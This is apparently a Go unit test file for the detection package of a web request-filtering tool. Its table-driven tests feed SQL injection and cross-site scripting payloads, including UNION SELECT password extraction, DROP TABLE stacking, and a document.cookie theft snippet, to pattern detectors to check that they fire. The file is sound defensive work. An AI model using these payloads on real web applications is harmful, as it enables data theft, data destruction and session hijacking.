// Gatekeeper - Request-Layer Security Defense
// Copyright 2026 Tom F. (tomtom215)
// SPDX-License-Identifier: AGPL-3.0-or-later
// https://github.com/tomtom215/gatekeeper

package detection

import (
	"testing"

	"github.com/tomtom215/gatekeeper/internal/audit"
)

func TestSQLInjectionDetector(t *testing.T) {
	t.Parallel()

	d, err := NewSQLInjectionDetector(nil)
	if err != nil {
		t.Fatalf("NewSQLInjectionDetector: %v", err)
	}
	if d.EventType() != audit.EventSQLInjectionAttempt {
		t.Errorf("EventType = %s", d.EventType())
	}
	if d.PatternCount() != len(DefaultSQLPatterns) {
		t.Errorf("PatternCount = %d, want %d", d.PatternCount(), len(DefaultSQLPatterns))
	}

	tests := []struct {
		name  string
		value string
		want  bool
	}{
		{"quoted tautology", "1' OR '1'='1", true},
		{"numeric tautology", "1 or 1=1", true},
		{"union select", "1 UNION SELECT password FROM users", true},
		{"union all select", "0 union all select null,null", true},
		{"comment terminator", "admin'--", true},
		{"hash terminator", "admin' #", true},
		{"stacked drop", "x'; DROP TABLE users", true},
		{"stacked delete", "1; delete from accounts", true},
		{"time based", "1 AND SLEEP(5)", true},
		{"waitfor", "1; WAITFOR DELAY '0:0:5'", true},
		{"schema probe", "select * from information_schema.tables", true},
		{"plain text", "Hello, world", false},
		{"apostrophe", "O'Brien", false},
		{"email", "alice@example.com", false},
		{"prose with select", "Please select an option from the list", false},
		{"prose with union", "It's a union of selected friends", false},
		{"prose with semicolon", "Tom & Jerry; the sequel", false},
		{"empty", "", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got := d.Detect(tt.value); got != tt.want {
				t.Errorf("Detect(%q) = %v, want %v", tt.value, got, tt.want)
			}
		})
	}
}

func TestXSSDetector(t *testing.T) {
	t.Parallel()

	d, err := NewXSSDetector(nil)
	if err != nil {
		t.Fatalf("NewXSSDetector: %v", err)
	}
	if d.EventType() != audit.EventXSSAttempt {
		t.Errorf("EventType = %s", d.EventType())
	}

	tests := []struct {
		name  string
		value string
		want  bool
	}{
		{"script tag", "<script>alert(1)</script>", true},
		{"closing script", "</SCRIPT >", true},
		{"event handler", `<img src=x onerror=alert(1)>`, true},
		{"attribute breakout", `" onmouseover="alert(1)`, true},
		{"javascript uri", "javascript:alert(1)", true},
		{"data html uri", "data:text/html;base64,PHNjcmlwdD4=", true},
		{"iframe", `<iframe src="https://evil.example">`, true},
		{"object", "<object data=x>", true},
		{"embed", "<embed src=x>", true},
		{"svg onload", "<svg/onload=alert(1)>", true},
		{"form name clobbering", `<form name="getElementById">`, true},
		{"srcdoc", `srcdoc="<b>x</b>"`, true},
		{"cookie theft", "new Image().src='//x/?'+document.cookie", true},
		{"css expression", "width: expression(alert(1))", true},
		{"plain text", "Hello, world", false},
		{"comparison", "Price < 5 and > 2", false},
		{"word starting with on", "one = two", false},
		{"url", "https://example.com/path?q=1", false},
		{"emphasis markup", "<b>bold</b>", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got := d.Detect(tt.value); got != tt.want {
				t.Errorf("Detect(%q) = %v, want %v", tt.value, got, tt.want)
			}
		})
	}
}

func TestNewPatternDetectorErrors(t *testing.T) {
	t.Parallel()

	if _, err := NewPatternDetector("", audit.EventXSSAttempt, []string{"x"}); err == nil {
		t.Error("expected error for empty name")
	}
	if _, err := NewPatternDetector("custom", audit.EventXSSAttempt, nil); err == nil {
		t.Error("expected error for empty pattern list")
	}
	if _, err := NewPatternDetector("custom", audit.EventXSSAttempt, []string{"ok", "([", "(?P<"}); err == nil {
		t.Error("expected error for invalid patterns")
	}
}

func TestCustomPatternsReplaceDefaults(t *testing.T) {
	t.Parallel()

	d, err := NewSQLInjectionDetector([]string{`(?i)\bevil\b`})
	if err != nil {
		t.Fatalf("NewSQLInjectionDetector: %v", err)
	}
	if !d.Detect("something EVIL here") {
		t.Error("custom pattern did not match")
	}
	if d.Detect("1 UNION SELECT 1") {
		t.Error("default pattern still active after replacement")
	}
}

func TestDetectorEnableToggle(t *testing.T) {
	t.Parallel()

	d, err := NewXSSDetector(nil)
	if err != nil {
		t.Fatalf("NewXSSDetector: %v", err)
	}
	if !d.Enabled() {
		t.Fatal("new detector should be enabled")
	}
	d.SetEnabled(false)
	if d.Enabled() {
		t.Error("SetEnabled(false) had no effect")
	}
}
